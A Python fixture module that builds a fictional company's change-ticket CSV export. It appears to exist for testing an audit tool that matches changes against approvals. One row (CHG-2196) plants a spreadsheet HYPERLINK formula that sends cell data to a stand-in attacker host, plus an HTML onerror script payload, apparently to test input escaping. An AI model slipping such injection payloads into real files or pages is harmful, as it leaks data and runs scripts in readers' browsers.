"""What Norvane's ticket system exported: most changes have their ticket, some have the wrong one, a few have none."""

from __future__ import annotations

import csv
import io
from datetime import datetime, time, timedelta
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from audit.sandbox.estate.model import Estate

FILE = "tickets.csv"
_COLUMNS = (
    "ticket", "job", "resource", "planned_from", "planned_until", "requester", "approver", "approved_at", "implementer",
    "emergency", "reviewed_at", "reviewed_by", "risk", "test", "rollback",
)  # fmt: skip
_PETRA, _INES, _MAREK, _TOVE, _SANJAY, _CAMILLE = (
    f"{name}@norvane.example"
    for name in ("petra.okafor", "ines.halloran", "marek.dvorak", "tove.lindqvist", "sanjay.rao", "camille.roux")
)


def ticket_files(estate: Estate) -> dict[str, str]:
    """Return the export by its name; a generated estate has none."""
    if not _story(estate):
        return {}
    written = io.StringIO()
    rows = csv.DictWriter(written, _COLUMNS, restval="", lineterminator="\r\n", delimiter=";")
    rows.writeheader()
    rows.writerows(_rows(estate))
    return {FILE: "\ufeff" + written.getvalue()}


def changes_toml(estate: Estate) -> str:
    """Return the [changes] section of an audit.toml for this estate; empty where there is no export."""
    return f'\n[changes]\nfiles = ["{FILE}"]\n' if _story(estate) else ""


def _story(estate: Estate) -> bool:
    return any(body["name"] == "orders-fulfil" for body in estate.resources.values())


def _rows(estate: Estate) -> list[dict[str, str]]:
    def at(ago: int, clock: str) -> str:
        day = estate.now.date() - timedelta(days=ago)
        return datetime.combine(day, time.fromisoformat(clock), tzinfo=estate.now.tzinfo).strftime("%Y-%m-%dT%H:%MZ")

    def planned(ago: int, since: str, until: str, *, ends: int | None = None) -> dict[str, str]:
        return {"planned_from": at(ago, since), "planned_until": at(ago if ends is None else ends, until)}

    def approved(by: str, ago: int, clock: str) -> dict[str, str]:
        return {"approver": by, "approved_at": at(ago, clock)}

    orders = next(body["appId"] for body in estate.directory.values() if body.get("displayName") == "deploy-orders")
    return [
        # As it should be: by application id, by name, by a pattern of names.
        {
            "ticket": "CHG-2207", "job": "orders-fulfil", "requester": _INES, "implementer": orders,
            **planned(9, "14:00", "16:00"), **approved(_PETRA, 10, "16:40"), "emergency": "no",
            "risk": "The carrier's rate limit", "test": "2,000 orders on the test queue",
            "rollback": "Deploy the image of CHG-2188",
        },
        {
            "ticket": "CHG-2188", "job": "orders-re*", "requester": _INES, "implementer": "deploy-orders",
            **planned(21, "11:30", "13:00"), **approved(f"{_PETRA} | {_MAREK}", 22, "09:15"), "emergency": "no",
        },
        {
            "ticket": "CHG-2196", "job": "notifications-mail", "requester": _CAMILLE, "implementer": "Li Wei 李伟",
            **planned(19, "12:00", "14:00"), **approved("Petra Okafor", 20, "17:02"), "emergency": "no",
            "risk": '=HYPERLINK("https://evil.example/?"&A1;"see")', "rollback": "<img src=x onerror=alert(1)>",
        },
        {
            "ticket": "CHG-2206", "resource": "kv-norvane-prod", "requester": _INES, "implementer": _PETRA,
            **planned(10, "13:00", "14:00"), **approved(_MAREK, 11, "08:30"), "emergency": "no",
        },
        {
            "ticket": "INC-0881", "job": "telemetry-ingest", "requester": _TOVE, "implementer": _TOVE,
            **planned(13, "02:00", "04:00"), "emergency": "yes", "reviewed_at": at(12, "10:05"), "reviewed_by": _PETRA,
            "risk": "Positions of a night are late",
        },
        # Approved too late, by who made it, by nobody but who asked; an emergency that nobody looked at afterwards.
        {
            "ticket": "CHG-2191", "job": "billing-invoices", "requester": _MAREK, "implementer": "deploy-billing",
            **planned(17, "08:30", "10:00"), **approved(_PETRA, 17, "09:40"), "emergency": "no",
        },
        {
            "ticket": "CHG-2179", "job": "billing-dunning", "requester": _CAMILLE, "implementer": _MAREK,
            **planned(24, "19:00", "20:00"), **approved("Marek Dvořák", 24, "12:00"), "emergency": "no",
        },
        {
            "ticket": "CHG-2210", "job": "telemetry-rollup", "requester": _TOVE, "implementer": "deploy-telemetry",
            **planned(6, "10:30", "12:00"), **approved("Tove Lindqvist", 7, "15:20"), "emergency": "no",
        },
        {
            "ticket": "INC-0884", "job": "imports-catalogue", "requester": _SANJAY, "implementer": _SANJAY,
            **planned(11, "23:00", "01:00", ends=10), "emergency": "yes",
        },
        # Near, but for another hour, for somebody else to make, or never made.
        {
            "ticket": "CHG-2214", "job": "orders-returns", "requester": _INES, "implementer": "deploy-orders",
            **planned(4, "16:00", "17:00"), **approved(_PETRA, 5, "11:11"), "emergency": "no",
        },
        {
            "ticket": "CHG-2211", "job": "search-indexer", "requester": _PETRA, "implementer": _PETRA,
            **planned(7, "09:00", "10:00"), **approved(_INES, 8, "14:45"), "emergency": "no",
        },
        {
            "ticket": "CHG-2219", "job": "billing-*", "requester": _CAMILLE, "implementer": "deploy-billing",
            **planned(3, "08:00", "18:00"), **approved(_PETRA, 4, "10:10"), "emergency": "no",
        },
        {
            "ticket": "CHG-2090", "job": "parcels-sort", "requester": _INES, "implementer": "deploy-orders",
            **planned(20, "08:00", "18:00"), **approved(_PETRA, 25, "10:10"), "emergency": "no",
        },
    ]  # fmt: skip
